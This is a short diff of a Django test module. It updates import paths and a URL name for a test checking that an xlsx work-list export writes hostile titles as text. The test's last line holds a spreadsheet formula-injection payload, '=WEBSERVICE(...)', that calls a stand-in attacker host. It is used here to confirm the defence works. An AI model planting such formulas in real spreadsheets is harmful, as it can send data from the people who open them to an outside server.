@@ -111,9 +111,9 @@ def test_the_plan_schedule_writes_hostile_titles_as_text(world, client):
 
 @pytest.mark.django_db
 def test_the_work_list_writes_hostile_titles_as_text_and_counts_as_numbers(world, client):
-    from members import work_services as services
-    from members.models import WorkKind
-    from members.tests.factories import REFLECTION_TEXT, WorkMeetingFactory
+    from members.work import services
+    from members.work.models import WorkKind
+    from members.work.tests.factories import REFLECTION_TEXT, WorkMeetingFactory
 
     meeting = WorkMeetingFactory(group=world.groups.bureau)
     work = services.work_create(
@@ -124,7 +124,7 @@ def test_the_work_list_writes_hostile_titles_as_text_and_counts_as_numbers(world
     services.work_accept(work=work, by=world.staff)
     client.force_login(world.staff)
     year = timezone.localdate().year
-    response = client.get(reverse("members:work-export", args=[world.groups.bureau.pk, year, "xlsx"]))
+    response = client.get(reverse("work:work-export", args=[world.groups.bureau.pk, year, "xlsx"]))
     assert response.status_code == 200
     cells = _cells(response.content)
     _assert_text_not_formula(cells, ["=WEBSERVICE(\"http://evil.example\")"])
